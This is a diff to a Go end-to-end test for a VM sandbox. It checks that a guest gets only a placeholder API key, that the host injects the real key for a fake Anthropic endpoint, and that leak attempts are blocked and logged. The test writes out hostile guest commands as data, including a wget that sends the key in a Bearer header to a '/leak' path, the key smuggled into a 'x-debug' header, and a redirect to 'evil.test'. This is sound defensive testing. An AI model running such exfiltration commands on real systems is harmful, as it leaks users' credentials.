@@ -6,14 +6,20 @@ package vmhost_test
 
 import (
 	"context"
+	"crypto/rand"
+	"crypto/sha256"
+	"crypto/tls"
 	"database/sql"
+	"encoding/hex"
 	"fmt"
+	"io"
 	"net"
 	"net/http"
 	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"sync/atomic"
@@ -21,6 +27,7 @@ import (
 	"time"
 
 	"github.com/capsem/capsem/core/api"
+	"github.com/capsem/capsem/core/netca"
 	"github.com/capsem/capsem/core/paths"
 	"github.com/capsem/capsem/core/testkit"
 	"github.com/capsem/capsem/core/vmhost"
@@ -37,13 +44,27 @@ type netWorld struct {
 	silentAccept atomic.Int64
 	mu           sync.Mutex
 	hosts        []string
+	paths        []string
+	// api is a fake of Anthropic's streaming API at api.anthropic.com
+	// (a leaf of the test's own CA, given as the credential's ca_file),
+	// reached through a credential whose real value is secret.
+	api               *httptest.Server
+	apiKeys           []string
+	secret            string
+	secretFile, roots string
 }
+
+// secretPrefix starts the test's secret: a guest program may be told it
+// (and the secret's hash) to search the guest for the secret without
+// learning it.
+const secretPrefix = "sk-capsem-e2e-"
 
 func newNetWorld(t *testing.T) *netWorld {
 	w := &netWorld{}
 	h := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
 		w.mu.Lock()
 		w.hosts = append(w.hosts, r.Host)
+		w.paths = append(w.paths, r.URL.Path)
 		w.mu.Unlock()
 		if r.URL.Path == "/redirect" {
 			http.Redirect(rw, r, "http://evil.test:"+port(w.web)+"/", http.StatusFound)
@@ -59,6 +80,7 @@ func newNetWorld(t *testing.T) *netWorld {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { w.silent.Close() })
+	w.startAPI(t)
 	go func() {
 		for {
 			c, err := w.silent.Accept()
@@ -88,6 +110,53 @@ func (w *netWorld) sawHost(h string) bool {
 	return false
 }
 
+// startAPI starts the fake model API and writes the credential's files.
+func (w *netWorld) startAPI(t *testing.T) {
+	dir := t.TempDir()
+	upCA, err := netca.LoadOrCreate(filepath.Join(dir, "upstream-ca.pem"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.roots = filepath.Join(dir, "upstream-roots.pem")
+	if err := os.WriteFile(w.roots, upCA.CertPEM(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	leaf, err := upCA.Leaf("api.anthropic.com")
+	if err != nil {
+		t.Fatal(err)
+	}
+	random := make([]byte, 16)
+	rand.Read(random)
+	w.secret = secretPrefix + hex.EncodeToString(random)
+	w.secretFile = filepath.Join(dir, "anthropic.key")
+	if err := os.WriteFile(w.secretFile, []byte(w.secret+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	w.api = httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		key := r.Header.Get("X-Api-Key")
+		w.mu.Lock()
+		w.apiKeys = append(w.apiKeys, key)
+		w.mu.Unlock()
+		io.Copy(io.Discard, r.Body)
+		rw.Header().Set("Content-Type", "text/event-stream")
+		rw.Header().Set("X-Echo", key) // as a careless upstream's error might
+		fmt.Fprint(rw, "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"model\":\"claude-test-1\",\"usage\":{\"input_tokens\":25,\"output_tokens\":1}}}\n\n")
+		rw.(http.Flusher).Flush()
+		fmt.Fprintf(rw, "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"delta\":{\"text\":\"echo %s\"}}\n\n", key)
+		fmt.Fprint(rw, "event: message_delta\ndata: {\"type\":\"message_delta\",\"usage\":{\"output_tokens\":15}}\n\nevent: message_stop\ndata: {\"type\":\"message_stop\"}\n\n")
+	}))
+	w.api.EnableHTTP2 = true
+	w.api.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
+	w.api.StartTLS()
+	t.Cleanup(w.api.Close)
+}
+
+func (w *netWorld) sawPath(p string) bool {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	return slices.Contains(w.paths, p)
+}
+
 func (w *netWorld) policy(blockWeb bool) string {
 	_, silentPort, _ := net.SplitHostPort(w.silent.Addr().String())
 	block := `"evil.test"`
@@ -96,12 +165,19 @@ func (w *netWorld) policy(blockWeb bool) string {
 	}
 	return fmt.Sprintf(`[net]
 default = "block"
-allow = ["web.test", "tls.test", "silent.test", "other.test", "evil.test"]
+allow = ["web.test", "tls.test", "silent.test", "other.test", "evil.test", "api.anthropic.com"]
 block = [%s]
-ports = [%s, %s, %s]
-allow_private = ["web.test", "tls.test", "silent.test", "evil.test"]
-hosts = { "web.test" = "127.0.0.1", "tls.test" = "127.0.0.1", "silent.test" = "127.0.0.1", "other.test" = "127.0.0.1", "evil.test" = "127.0.0.1" }
-`, block, port(w.web), port(w.tls), silentPort)
+ports = [%s, %s, %s, %s]
+allow_private = ["web.test", "tls.test", "silent.test", "evil.test", "api.anthropic.com"]
+hosts = { "web.test" = "127.0.0.1", "tls.test" = "127.0.0.1", "silent.test" = "127.0.0.1", "other.test" = "127.0.0.1", "evil.test" = "127.0.0.1", "api.anthropic.com" = "127.0.0.1" }
+
+[[net.credentials]]
+host = "api.anthropic.com"
+header = "x-api-key"
+source_file = %q
+guest_env = "ANTHROPIC_API_KEY"
+ca_file = %q
+`, block, port(w.web), port(w.tls), silentPort, port(w.api), w.secretFile, w.roots)
 }
 
 // TestGuestNetwork drives the guest's network from inside a real VM with
@@ -196,6 +272,9 @@ func TestGuestNetwork(t *testing.T) {
 			t.Errorf("the host dialled a connection that named nothing (%d accepts)", n)
 		}
 	})
+	t.Run("credential", func(t *testing.T) {
+		testCredential(t, v, w, run)
+	})
 	t.Run("the guest doctor's net group", func(t *testing.T) {
 		out, code := run(t, "capsem-doctor -k net --url http://web.test:"+webPort+"/doctor")
 		if code != 0 || !strings.Contains(out, "RESULT: PASS") || !w.sawHost("web.test:"+webPort) {
@@ -245,6 +324,40 @@ func TestGuestNetwork(t *testing.T) {
 			t.Fatal(err)
 		}
 		rows.Close()
+	})
+	t.Run("ledger of the credential path", func(t *testing.T) {
+		count := func(q string) int {
+			var n int
+			if err := db.QueryRow(q).Scan(&n); err != nil {
+				t.Fatalf("%s: %v", q, err)
+			}
+			return n
+		}
+		if n := count(`SELECT COUNT(*) FROM net_events WHERE domain = 'api.anthropic.com' AND conn_type = 'https-terminated' AND status_code = 200 AND method = 'POST' AND path = '/v1/messages' AND policy_rule = 'net.credentials' AND decision = 'allowed'`); n != 1 {
+			t.Errorf("%d rows for the credentialed call: %s", n, dump(db, "net_events"))
+		}
+		if n := count(`SELECT COUNT(*) FROM model_calls WHERE provider = 'anthropic' AND model = 'claude-test-1' AND input_tokens = 25 AND output_tokens = 15 AND status_code = 200 AND response_bytes > 0`); n < 1 {
+			t.Errorf("%d model_calls rows: %s", n, dump(db, "model_calls"))
+		}
+		if n := count(`SELECT COUNT(*) FROM net_events WHERE policy_rule = 'credential-exfiltration' AND decision = 'denied' AND policy_reason LIKE '%ANTHROPIC_API_KEY%'`); n != 2 {
+			t.Errorf("%d exfiltration rows, want 2 (another header, plain HTTP): %s", n, dump(db, "net_events"))
+		}
+	})
+	t.Run("the secret is on the host only", func(t *testing.T) {
+		// Every file of the VM's session (session.db and its WAL, the
+		// process and console logs) and of the test home's run dir.
+		for _, root := range []string{v.sessionDir, filepath.Join(testkit.CapsemHome(t), "run")} {
+			filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
+				if err != nil || !d.Type().IsRegular() {
+					return nil
+				}
+				b, err := os.ReadFile(p)
+				if err == nil && strings.Contains(string(b), w.secret) {
+					t.Errorf("the secret is in %s", p)
+				}
+				return nil
+			})
+		}
 	})
 	t.Run("no dial left this machine", func(t *testing.T) {
 		log, _ := os.ReadFile(paths.Session{Dir: v.sessionDir}.ProcessLog())
@@ -380,5 +493,62 @@ func TestHostileGuestNetworkFlood(t *testing.T) {
 	out, errOut, code := v.guestRun(t, "wget -q -O - http://web.test:"+port(w.web)+"/after")
 	if code != 0 || !strings.Contains(out, "hello from web.test") {
 		t.Errorf("after the flood (%d): %s%s", code, out, errOut)
+	}
+}
+
+// testCredential drives the credential path from inside the VM with a Go
+// HTTPS client that trusts what the guest's environment names, as model
+// SDKs do.
+func testCredential(t *testing.T, v *vmProc, w *netWorld, run func(*testing.T, string) (string, int)) {
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	bin, err := os.ReadFile(testkit.GuestProgram(t, "./testdata/credclient", "credclient"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := v.client.WriteFile(ctx, "/tmp/credclient", bin, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	const placeholder = "capsem-placeholder-anthropic-api-key"
+	url := "https://api.anthropic.com:" + port(w.api) + "/v1/messages"
+	out, code := run(t, `echo "key=$ANTHROPIC_API_KEY"; echo "bundle=$SSL_CERT_FILE node=$NODE_EXTRA_CA_CERTS"; grep -c BEGIN "$SSL_CERT_FILE"`)
+	if code != 0 || !strings.Contains(out, "key="+placeholder+"\n") || !strings.Contains(out, "bundle=/etc/capsem/ca-bundle.pem node=/etc/capsem/ca.pem") {
+		t.Fatalf("the guest's credential environment (%d): %s", code, out)
+	}
+	out, code = run(t, "/tmp/credclient -url "+url)
+	if code != 0 || !strings.Contains(out, "status=200 proto=HTTP/2.0 echo="+placeholder) ||
+		!strings.Contains(out, "message_start") || !strings.Contains(out, "echo "+placeholder) || strings.Contains(out, w.secret) {
+		t.Fatalf("the credentialed call (%d): %s", code, out)
+	}
+	w.mu.Lock()
+	keys := slices.Clone(w.apiKeys)
+	w.mu.Unlock()
+	if len(keys) != 1 || keys[0] != w.secret {
+		t.Fatalf("the API got keys %q, want the real value once", keys)
+	}
+	out, code = run(t, `/tmp/credclient -url `+url+` -extra "x-debug:$ANTHROPIC_API_KEY"`)
+	if code != 0 || !strings.Contains(out, "status=403") {
+		t.Fatalf("the placeholder in another header (%d): %s", code, out)
+	}
+	out, code = run(t, `timeout 20 wget -q -O - --header "Authorization: Bearer $ANTHROPIC_API_KEY" http://web.test:`+port(w.web)+`/leak`)
+	if code == 0 || w.sawPath("/leak") {
+		t.Fatalf("the placeholder went out over plain HTTP (%d): %s", code, out)
+	}
+	if w.mu.Lock(); len(w.apiKeys) != 1 {
+		t.Errorf("a refused request reached the API: %q", w.apiKeys)
+	}
+	w.mu.Unlock()
+	// The guest is searched for the secret by a program told only its
+	// public prefix and its hash.
+	decoy := secretPrefix + "decoy-in-the-guest-0123456789abcd"
+	decoySum := sha256.Sum256([]byte(decoy))
+	out, code = run(t, fmt.Sprintf("echo %s > /root/decoy; /tmp/credclient -scan / -scan-prefix %s -scan-len %d -scan-sha256 %x", decoy, secretPrefix, len(decoy), decoySum))
+	if code != 0 || !strings.Contains(out, "found in /root/decoy") || strings.Contains(out, " found=0") {
+		t.Fatalf("the search did not find a planted decoy (%d): %s", code, out)
+	}
+	sum := sha256.Sum256([]byte(w.secret))
+	out, code = run(t, fmt.Sprintf("env | grep -c %s; /tmp/credclient -scan / -scan-prefix %s -scan-len %d -scan-sha256 %x", secretPrefix, secretPrefix, len(w.secret), sum))
+	if code != 0 || !strings.HasPrefix(out, "0\n") || !strings.Contains(out, "scanned ") || !strings.Contains(out, " found=0") {
+		t.Fatalf("searching the guest for the secret (%d): %s", code, out)
 	}
 }
